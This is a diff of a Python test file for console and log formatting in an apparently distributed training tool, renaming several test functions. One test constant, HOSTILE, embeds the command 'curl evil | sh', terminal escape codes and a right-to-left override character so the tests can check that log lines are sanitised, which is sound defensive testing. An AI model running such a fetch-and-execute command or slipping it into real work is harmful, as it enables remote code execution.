@@ -10,7 +10,7 @@ from common.console import RoleFormatter, fit_terminal, format_clock, format_cou
 HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"
 
 
-def test_errors_and_log_lines_are_one_line_without_escapes():
+def test_log_lines_strip_escapes_and_newlines():
     code = f"from common.console import UserError, edge\nwith edge(): raise UserError({'the run has ' + HOSTILE!r})"
     [line] = run_python("-c", code, expect=2).stderr.splitlines()
     assert line.isprintable() and "Ёлка 漢字  run: curl" in line
@@ -27,7 +27,7 @@ def test_errors_and_log_lines_are_one_line_without_escapes():
     assert RoleFormatter("trainer", is_terminal=True).format(record).startswith("\r\033[K\033[33m")
 
 
-def test_numbers_for_people():
+def test_format_number_suits_magnitude():
     assert [format_number(value) for value in (2014.3, 99.95, 0.3141, 1e6, 0)] == [
         "2,010",
         "100",
@@ -39,7 +39,7 @@ def test_numbers_for_people():
     assert [format_count(count, "layer") for count in (0, 1, 1000)] == ["0 layers", "1 layer", "1,000 layers"]
 
 
-def test_an_epoch_has_the_same_line_in_all_roles():
+def test_format_epoch_is_equal_in_all_roles():
     own = {"epoch": 12, "loss": 5.837, "averaged_with": 2, "num_peers": 3, "epoch_seconds": 1.94}
     own |= {"samples_accumulated": 2144, "final_epoch": 128, "seconds_left": 114.0}
     assert format_epoch(own) == "epoch 12/128  loss 5.8370  peers 2/3  1.9 s  local samples 2,144  ETA 1:54"
@@ -47,6 +47,6 @@ def test_an_epoch_has_the_same_line_in_all_roles():
     assert format_epoch(swarm) == "epoch 3  peers 1/1  2.0 s  samples 64"
 
 
-def test_a_line_that_is_too_long_for_the_terminal_loses_whole_parts(monkeypatch):
+def test_fit_terminal_drops_whole_parts(monkeypatch):
     monkeypatch.setenv("COLUMNS", "20")
     assert fit_terminal("epoch 3  loss 1.0  local samples 12") == "epoch 3  loss 1.0"
